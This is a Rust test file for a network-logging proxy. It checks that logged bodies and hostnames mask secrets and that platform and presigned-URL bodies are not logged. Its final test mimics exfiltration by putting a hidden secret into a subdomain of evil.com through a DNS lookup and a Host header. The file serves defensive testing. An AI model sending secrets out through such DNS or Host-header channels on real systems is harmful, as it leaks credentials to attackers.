//! Bodies in the network log.

use guest_test::Reply;
use intercept::Policy;

use crate::credential::secret;
use crate::fixture::{API, Fixture, OTHER, allow};

/// A text that the guest knows and the log must not contain.
const HIDDEN: &str = "what-must-not-be-told";
/// A secret of which the guest has a placeholder.
const VALUE: &str = "the-real-key-itself";

#[test]
#[ignore = "needs root and mitmproxy"]
fn the_beginning_of_a_body_is_logged_without_secrets() {
    let fixture = Fixture::new();
    let _server = fixture.https(|request| {
        assert_eq!(request.header("accept-encoding"), Some("identity"));
        Reply::bytes(match request.path.as_str() {
            "/text" => format!("{HIDDEN}, {VALUE}").into_bytes(),
            _ => vec![0xff; 100_000],
        })
    });
    let client = fixture.client_with(Policy::none(), |config| {
        let config = config.with_secrets(vec![secret(API)]).hiding(vec![HIDDEN.to_owned()]);
        config.with_bodies(true)
    });

    let sent = format!("a body with {HIDDEN}");
    client.curl(&["--compressed", "-d", &sent, &format!("https://{API}/text")]);
    client.try_curl(&[format!("https://{API}/binary")]);
    let packed = ["-H", "content-encoding: gzip", "-d", HIDDEN];
    client.curl(&[&packed[..], &[&format!("https://{API}/text")]].concat());

    let record = client.end();
    let [hidden, value] = [HIDDEN, VALUE].map(|secret| "*".repeat(secret.len()));
    assert_eq!(record[0].request_body, Some(format!("a body with {hidden}")));
    assert_eq!(record[0].response_body, Some(format!("{hidden}, {value}")));
    assert!(!record[0].response_body_truncated && record[0].response_body_encoding.is_none());
    assert_eq!(record[1].request_body, None);
    assert_eq!(record[1].response_body_encoding.as_deref(), Some("base64"));
    assert_eq!(record[1].response_body.as_ref().unwrap().len(), (16_usize << 10).div_ceil(3) * 4);
    assert_eq!((record[1].response_body_truncated, record[1].response_size), (true, Some(100_000)));
    assert_eq!(record[2].request_body, None);
}

#[test]
#[ignore = "needs root and mitmproxy"]
fn bodies_are_not_logged_by_default() {
    let fixture = Fixture::new();
    let _server = fixture.http(|_| Reply::bytes(b"answer".to_vec()));
    let client = fixture.client(allow(&[OTHER]));

    client.curl(&["-d", "question", &format!("http://{OTHER}/")]);

    let record = client.end();
    assert_eq!((record[0].request_size, record[0].response_size), (Some(8), Some(6)));
    assert_eq!((&record[0].request_body, &record[0].response_body), (&None, &None));
}

#[test]
#[ignore = "needs root and mitmproxy"]
fn bodies_of_the_platform_and_of_presigned_urls_are_not_logged() {
    const PRESIGNED: &str = "https://store.example/k?X-Amz-Signature=0123456789abcdef";
    let fixture = Fixture::new();
    let _server = fixture.http(|_| Reply::bytes(PRESIGNED.as_bytes().to_vec()));
    let client = fixture.client_with(allow(&[API, OTHER]), |config| {
        config.with_bodies(true).with_private_hosts(vec![API.to_owned()])
    });

    client.curl(&["-d", "{}", &format!("http://{API}/checkpoints/prepare-history")]);
    let upload = "k?X-Amz-Date=1&X-Amz-Signature=0123456789abcdef";
    client.curl(&["-T", "/etc/hostname", &format!("http://{OTHER}/{upload}")]);
    client.curl(&["-d", "{}", &format!("http://{OTHER}/prepare")]);

    let record = client.end();
    for entry in &record[..2] {
        assert_eq!((&entry.request_body, &entry.response_body), (&None, &None));
    }
    assert_eq!(record[2].request_body.as_deref(), Some("{}"));
    let masked = PRESIGNED.replace("0123456789abcdef", &"*".repeat(16));
    assert_eq!(record[2].response_body, Some(masked));
}

#[test]
#[ignore = "needs root and mitmproxy"]
fn a_secret_in_a_name_is_masked_in_every_entry() {
    let fixture = Fixture::new();
    let _server = fixture.http(|_| Reply::bytes(Vec::new()));
    let hide = |config: intercept::InterceptionConfig| config.hiding(vec![HIDDEN.to_owned()]);
    let client = fixture.client_with(Policy::none(), hide);

    client.registration.as_ref().unwrap().observer().may_resolve(&format!("{HIDDEN}.evil.com."));
    let host = format!("Host: key-{}.evil.com", HIDDEN.to_uppercase());
    client.try_curl(&["-H", &host, &format!("http://{OTHER}/{HIDDEN}")]);

    let record = client.end();
    assert_eq!((record[0].kind.as_str(), record[0].host.as_str()), ("dns", "***.evil.com"));
    assert_eq!(record[1].host, "key-***.evil.com");
    assert!(!format!("{record:?}").to_lowercase().contains(HIDDEN));
}
